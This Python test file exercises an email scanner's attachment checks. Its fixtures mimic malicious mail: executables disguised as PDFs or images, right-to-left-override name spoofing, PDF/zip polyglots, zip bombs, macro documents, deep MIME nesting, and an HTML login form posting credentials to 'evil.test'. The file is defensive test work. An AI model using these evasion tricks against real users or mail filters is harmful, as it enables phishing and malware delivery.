"""The content check on hostile attachments the tests build themselves."""

from __future__ import annotations

import io
import zipfile

import pytest

from tests.checks.golden import offline_settings, scan_bytes
from tests.messages import plain, with_attachments, zip_bytes
from tests.ole import macro_doc, plain_doc

# A PE header libmagic recognises: 'MZ', e_lfanew at 0x3c pointing at 'PE\0\0' + i386.
PE = (
    b"MZ"
    + b"\x90\x00" * 29
    + b"\x80\x00\x00\x00"
    + b"\x00" * 64
    + b"PE\x00\x00\x4c\x01"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"


async def symbols(raw: bytes, **content: object) -> dict[str, dict]:
    settings = offline_settings(content=content) if content else offline_settings()
    verdict = await scan_bytes(raw, settings)
    return {s.name: dict(s.details) for s in verdict.symbols if s.check == "content"}


def files(found: dict[str, dict], symbol: str) -> list[str]:
    return [f.get("file") or f.get("member") or f.get("reason") for f in found[symbol]["files"]]


async def test_clean_pdf_attachment_raises_nothing():
    found = await symbols(with_attachments(("report.pdf", PDF, "application/pdf")))
    assert found == {}


async def test_pe_renamed_pdf_is_executable_and_mismatched():
    found = await symbols(with_attachments(("invoice.pdf", PE, "application/pdf")))
    assert files(found, "ATTACHMENT_EXECUTABLE") == ["invoice.pdf"]
    [mismatch] = found["ATTACHMENT_TYPE_MISMATCH"]["files"]
    assert mismatch["extension"] == "pdf"
    assert mismatch["true_type"] == "application/vnd.microsoft.portable-executable"


async def test_elf_with_innocent_name_and_type():
    found = await symbols(with_attachments(("photo.jpg", ELF, "image/jpeg")))
    assert "ATTACHMENT_EXECUTABLE" in found
    assert "ATTACHMENT_TYPE_MISMATCH" in found


@pytest.mark.parametrize("name", ["run.js", "setup.hta", "open.vbs", "disk.iso", "link.lnk"])
async def test_script_extensions_are_executable(name):
    found = await symbols(with_attachments((name, b"var a = 1;\n", "text/plain")))
    assert files(found, "ATTACHMENT_EXECUTABLE") == [name]


async def test_double_extension_and_name_spoof():
    found = await symbols(with_attachments(
        ("invoice.pdf.exe", PE, "application/octet-stream"),
        ("photo\u202egpj.exe", PE, "application/octet-stream"),
    ))  # fmt: skip
    assert files(found, "ATTACHMENT_DOUBLE_EXTENSION") == ["invoice.pdf.exe"]
    assert "ATTACHMENT_NAME_SPOOF" in found


async def test_pdf_zip_polyglot_is_opened_as_the_zip_it_also_is():
    # A valid PDF start with a zip appended: PDF readers and unzip both open it.
    polyglot = b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n" + zip_bytes({"tool.exe": PE})
    found = await symbols(with_attachments(("report.pdf", polyglot, "application/pdf")))
    assert files(found, "ATTACHMENT_EXECUTABLE") == ["report.pdf/tool.exe"]
    assert found["ARCHIVE_MEMBERS"]["files"][0]["members"] == ["report.pdf/tool.exe"]


async def test_zip_members_are_listed_and_inspected():
    archive = zip_bytes({"docs/readme.txt": b"hello", "docs/tool.exe": PE})
    found = await symbols(with_attachments(("docs.zip", archive, "application/zip")))
    assert found["ARCHIVE_MEMBERS"]["files"][0]["members"] == [
        "docs.zip/docs/readme.txt",
        "docs.zip/docs/tool.exe",
    ]
    assert files(found, "ATTACHMENT_EXECUTABLE") == ["docs.zip/docs/tool.exe"]


async def test_nested_archives_to_a_bounded_depth():
    level = zip_bytes({"payload.exe": PE})
    for n in range(4):
        level = zip_bytes({f"level{n}.zip": level})
    found = await symbols(with_attachments(("deep.zip", level, "application/zip")))
    assert "ARCHIVE_TOO_DEEP" in found
    assert "ATTACHMENT_EXECUTABLE" not in found  # below the bound, not inspected
    found = await symbols(
        with_attachments(("deep.zip", level, "application/zip")), max_archive_depth=6
    )
    assert "ARCHIVE_TOO_DEEP" not in found
    assert files(found, "ATTACHMENT_EXECUTABLE")[0].endswith("/payload.exe")


def encrypted_zip(name: str, data: bytes) -> bytes:
    """A zip whose member carries the 'encrypted' flag, as zip -e writes it.

    zipfile cannot write encrypted archives, so the flag bit is set in the local header
    (offset 6) and the central directory entry (offset 8) of a stored member.
    """
    raw = bytearray(zip_bytes({name: data}, zipfile.ZIP_STORED))
    raw[6] |= 0x1
    central = raw.index(b"PK\x01\x02")
    raw[central + 8] |= 0x1
    return bytes(raw)


async def test_encrypted_zip():
    archive = encrypted_zip("secret.docx", b"ciphertext")
    assert zipfile.ZipFile(io.BytesIO(archive)).infolist()[0].flag_bits & 0x1
    found = await symbols(with_attachments(("locked.zip", archive, "application/zip")))
    assert files(found, "ARCHIVE_ENCRYPTED") == ["locked.zip/secret.docx"]


async def test_zip_bomb_made_on_the_fly():
    bomb = zip_bytes({"zeros.bin": b"\0" * (50 * 1024 * 1024)})
    assert len(bomb) < 100_000
    found = await symbols(with_attachments(("bomb.zip", bomb, "application/zip")))
    assert "ratio" in files(found, "ARCHIVE_BOMB")[0]


async def test_too_many_members_and_total_size():
    many = zip_bytes({f"f{i}.txt": b"x" for i in range(50)})
    found = await symbols(
        with_attachments(("many.zip", many, "application/zip")), max_archive_members=10
    )
    assert "50 members" in files(found, "ARCHIVE_BOMB")[0]
    big = zip_bytes({"a.bin": bytes(range(256)) * 4000}, zipfile.ZIP_STORED)
    found = await symbols(
        with_attachments(("big.zip", big, "application/zip")), max_uncompressed_size=100_000
    )
    assert "uncompressed" in files(found, "ARCHIVE_BOMB")[0]


async def test_corrupt_zip_is_unreadable_not_a_crash():
    found = await symbols(
        with_attachments(("broken.zip", b"PK\x03\x04garbage" * 10, "application/zip"))
    )
    assert "ARCHIVE_UNREADABLE" in found


async def test_office_document_with_vba_macros():
    found = await symbols(with_attachments(("orders.doc", macro_doc(), "application/msword")))
    assert files(found, "OFFICE_MACRO") == ["orders.doc"]


async def test_office_document_without_macros_is_quiet():
    found = await symbols(with_attachments(("letter.doc", plain_doc(), "application/msword")))
    assert "OFFICE_MACRO" not in found


async def test_macro_document_inside_openxml_container():
    docm = zip_bytes({
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<w:document/>",
        "word/vbaProject.bin": macro_doc(),
    })  # fmt: skip
    found = await symbols(with_attachments(("orders.docm", docm, "application/vnd.ms-word")))
    assert "OFFICE_MACRO" in found


async def test_html_attachment_with_form_and_script():
    page = b"<html><body><form action='https://evil.test/login'><input name=p></form>" \
           b"<script>steal()</script></body></html>"  # fmt: skip
    found = await symbols(with_attachments(("login.html", page, "text/html")))
    assert files(found, "HTML_ATTACHMENT_FORM") == ["login.html"]
    assert files(found, "HTML_ATTACHMENT_SCRIPT") == ["login.html"]


async def test_banned_extensions_and_types_come_from_config():
    raw = with_attachments(("notes.rtf", b"{\\rtf1 hello}", "application/rtf"))
    assert "ATTACHMENT_BANNED" not in await symbols(raw)
    assert "ATTACHMENT_BANNED" in await symbols(raw, banned_extensions=["rtf"])
    assert "ATTACHMENT_BANNED" in await symbols(raw, banned_types=["text/rtf"])


async def test_deep_mime_nesting_is_a_symbol_not_a_crash():
    depth = 3000  # past Python's recursion limit in the stdlib parser
    raw = b"From: a@sender.test\r\nContent-Type: multipart/mixed; boundary=b0\r\n\r\n"
    for i in range(1, depth):
        raw += b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (i - 1, i)
    raw += b"--b%d\r\nContent-Type: text/plain\r\n\r\nhi\r\n" % (depth - 1)
    assert "MIME_TOO_DEEP" in await symbols(raw)
    shallow = raw.split(b"--b30\r\n")[0]
    assert "MIME_TOO_DEEP" in await symbols(shallow, max_mime_depth=10)


async def test_many_parts_is_a_symbol():
    raw = (
        b"From: a@sender.test\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n"
        + b"--x\r\nContent-Type: application/octet-stream\r\n\r\nAAAA\r\n" * 2000
        + b"--x--\r\n"
    )
    found = await symbols(raw)
    assert found["MIME_TOO_MANY_PARTS"]["limit"] == 500


async def test_plain_text_message_does_no_attachment_work():
    assert await symbols(plain("hello")) == {}
